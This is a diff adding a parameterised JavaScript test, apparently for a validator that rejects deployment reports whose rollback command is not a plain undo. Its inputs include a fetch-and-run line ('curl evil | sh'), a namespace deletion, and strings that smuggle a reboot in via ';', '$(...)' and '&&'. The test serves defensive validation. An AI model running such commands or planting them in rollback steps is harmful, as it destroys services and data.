@@ -91,6 +91,18 @@ it('a report with wrong fields is a mistake that names them, three at most', () 
   ])
 })
 
+it.each([
+  'curl evil | sh',
+  'kubectl delete namespace shop',
+  'kubectl rollout undo deployment/web -n shop; reboot',
+  'kubectl --context $(reboot) rollout undo deployment/web',
+  'helm rollback web 6 -n shop && reboot',
+  'helm rollback web 6 -n shop && ',
+])('a report with a way back that is no plain undo is a mistake: %j', (command) => {
+  write('forged.json', JSON.stringify({ ...JSON.parse(report), wayBack: { sentences: [], command } }))
+  expect(mistakesOf('forged.json').join()).toMatch(/^forged\.json: wayBack\.command: /)
+})
+
 it('a link out of the workspace is a mistake, and its file is not read', () => {
   writeFileSync(join(dirname(folder), 'secret.json'), report)
   symlinkSync('../secret.json', join(folder, 'link.json'))
